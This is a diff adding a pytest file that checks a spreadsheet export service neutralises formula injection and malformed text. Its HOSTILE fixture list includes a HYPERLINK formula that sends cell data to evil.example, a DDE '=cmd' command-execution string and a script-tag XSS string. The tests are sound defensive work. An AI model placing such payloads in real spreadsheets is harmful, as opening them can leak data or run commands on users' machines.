@@ -1,0 +1,186 @@
+"""Hostile text from the app and the admin reaches every sheet as data: no formula, well-formed XML, every row."""
+from __future__ import annotations
+
+import copy
+import datetime as dt
+import io
+import uuid
+import zipfile
+from xml.etree import ElementTree
+
+import pytest
+from openpyxl import Workbook
+
+from exports.container import services
+from exports.demo.configs import hlf_config, nhf_config
+from exports.domain import ExportRequest, ExportSuccess, Period
+from exports.models import OrganisationColumnConfig
+from exports.services import cells
+from exports.services.activity_source import ActivityRecord
+from tests import factories
+from tests.export_reading import open_bundle
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    "#N/A",
+    "#REF!",
+    "a\x00b\x01c\x08d\x0be\x1ff",
+    "x\ufffey\uffffz",
+    "lone \ud800 surrogate",
+    "\udfff",
+    "<script>alert(1)</script> & ]]> \"'",
+    "x" * 40_000,
+    "\U0001f600" * 20_000,
+    "=" + "A" * 40_000,
+    "",
+    " ",
+]
+"""Text an attacker or a careless administrator can put in any field."""
+_S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+
+
+def _short(text: str, index: int) -> str:
+    """A hostile admin value that still passes the document's bounds (unique, not blank, not huge)."""
+    return f"{text[:120]}{index}"
+
+
+def hostile_document(document: dict) -> dict:
+    """The document with hostile text in every field the admin writes to a cell.
+
+    Characters no cell holds are refused when a document is saved, so the admin's text is the formula-like kind.
+    """
+    document = copy.deepcopy(document)
+    hostile = iter([text for text in HOSTILE if not cells._REFUSED_CHARACTERS.search(text)] * 20)
+    index = iter(range(10_000))
+    document["template"]["name"] = _short(next(hostile), next(index))
+    document["template"]["boolean_labels"] = {"true": "=1+1", "false": "@A1"}
+    for spec in document["activity_types"].values():
+        spec["label"] = _short(next(hostile), next(index))
+    for values in document.get("value_lists", {}).values():
+        for key in values:
+            values[key] = _short(next(hostile), next(index))
+    for column in document["columns"]:
+        column["heading"] = _short(next(hostile), next(index))
+    for rule in document["counting_rules"] + document.get("validations", []):
+        rule["reason"] = _short(next(hostile), next(index))
+    return document
+
+
+def hostile_records(known_type: str) -> list[ActivityRecord]:
+    """Two rows for each hostile value: one that counts (text everywhere else), one with a hostile type."""
+    records = []
+    start = dt.datetime(2025, 3, 1, 9, tzinfo=dt.UTC)
+    for number, text in enumerate(HOSTILE):
+        common = {"duration_minutes": 60, "participant_count": 1, "description": text, "status": "registered",
+                  "peer_mentor_certified_on": dt.date(2020, 1, 1), "local_branch_name": text,
+                  "local_branch_county_code": text, "local_branch_municipality_code": text}
+        records.append(ActivityRecord(
+            id=uuid.uuid4(), activity_type=known_type, started_at=start + dt.timedelta(hours=2 * number),
+            country_code="NO", municipality_code=text, peer_mentor_id=uuid.uuid4(), peer_mentor_name=text,
+            **common))
+        records.append(ActivityRecord(
+            id=uuid.uuid4(), activity_type=text, started_at=start + dt.timedelta(hours=2 * number + 1),
+            country_code=text, municipality_code="4601", peer_mentor_id=None, peer_mentor_name=None, **common))
+    return records
+
+
+class ListSource:
+    """An activity source over a fixed list of records."""
+
+    def __init__(self, records: list[ActivityRecord]) -> None:
+        self.records = records
+
+    def count(self, organisation_id, period):
+        return len(self.records)
+
+    def stream(self, organisation_id, period, chunk_size):
+        for offset in range(0, len(self.records), chunk_size):
+            yield self.records[offset:offset + chunk_size]
+
+
+def _sheet_xml(files: dict[str, bytes]) -> dict[str, ElementTree.Element]:
+    """Every worksheet of the workbook, parsed as XML (raises on a file that is not well-formed)."""
+    workbook = next(data for name, data in files.items() if name.endswith(".xlsx"))
+    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
+        return {name: ElementTree.fromstring(archive.read(name)) for name in archive.namelist()
+                if name.startswith("xl/worksheets/sheet")}
+
+
+@pytest.mark.parametrize(("make_config", "known_type"), [(nhf_config, "hjemmebesok"), (hlf_config, "besok")])
+def test_hostile_text_in_every_column_and_every_summary_field_stays_data(export_files, make_config, known_type):
+    org = factories.organisation("hostile", name=HOSTILE[0] + "\x01\ufffe", org_number="=2+3")
+    OrganisationColumnConfig.objects.create(organisation=org, document=hostile_document(make_config()),
+                                            is_active=True)
+    records = hostile_records(known_type)
+    period = Period.year(2025)
+    audit = services().audits.create(org.pk, None, "tester", period)
+    with services().override(activity_source=ListSource(records)):
+        result = services().orchestrator.run(ExportRequest(audit.pk, org.pk, period, "tester"))
+    assert isinstance(result, ExportSuccess), result
+    with export_files.open(result.file_key) as handle:
+        bundle = open_bundle(handle.read())
+
+    sheets = _sheet_xml(bundle.files)
+    assert len(sheets) == 3
+    for root in sheets.values():
+        assert root.findall(f".//{_S}f") == []
+        for element in root.iter(f"{_S}c"):
+            assert element.get("t") in (None, "n", "b", "inlineStr", "d")
+    workbook = bundle.workbook
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f"
+                if isinstance(cell.value, str):
+                    assert cell.quotePrefix or not cells.is_formula_like(cell.value)
+                    assert len(cell.value) <= cells.MAX_TEXT_LENGTH
+                    assert not cells._REFUSED_CHARACTERS.search(cell.value)
+    activities = list(workbook["Aktiviteter"].iter_rows(values_only=True))
+    assert len(activities) == 1 + len(records)
+    deviations = list(workbook["Avvik"].iter_rows(values_only=True))
+    assert len(deviations) == 1 + bundle.manifest["rows"]["deviations"]
+    assert len(deviations) > len(HOSTILE)
+    summary = [value for row in workbook["Sammendrag"].iter_rows(values_only=True) for value in row]
+    assert HOSTILE[0] in summary and "=2+3" in summary
+    assert any(isinstance(value, str) and value.startswith("\t=1+1") for value in summary)
+    assert any(isinstance(value, str) and value.startswith("-1+1") for value in summary)
+
+
+def test_formula_like_text_is_text_with_a_quote_prefix():
+    sheet = Workbook(write_only=True).create_sheet()
+    for text in ("=1+1", "+1", "-1", "@A1", "#N/A", "\uff1d1"):
+        written = cells.cell(sheet, text)
+        assert written.data_type == "s" and written.value == text and written.quotePrefix
+    assert cells.cell(sheet, "plain text") == "plain text"
+    assert cells.cell(sheet, 42) == 42
+
+
+@pytest.mark.parametrize("value", [[1], {"a": 1}, {1}, len, object(), float("nan"), float("inf"), b"bytes"])
+def test_a_value_no_cell_can_hold_becomes_a_problem_not_an_exception(value):
+    cleaned = cells.clean(value)
+    assert cleaned.value is None and cleaned.problem
+
+
+def test_long_text_is_cut_to_what_excel_keeps_counting_utf16_units():
+    cleaned = cells.clean("\U0001f600" * 20_000)
+    assert cleaned.problem
+    assert len(cleaned.value.encode("utf-16-le")) // 2 <= cells.MAX_TEXT_LENGTH
+    assert cells.clean("x" * cells.MAX_TEXT_LENGTH) == cells.CellValue("x" * cells.MAX_TEXT_LENGTH)
+
+
+def test_huge_numbers_and_old_dates_are_kept_as_text():
+    assert cells.clean(10**30).value == str(10**30)
+    old = cells.clean(dt.date(1, 1, 1))
+    assert old.value == "0001-01-01" and old.problem
+    aware = cells.clean(dt.datetime(2025, 6, 1, 10, tzinfo=dt.UTC)).value
+    assert aware == dt.datetime(2025, 6, 1, 12)
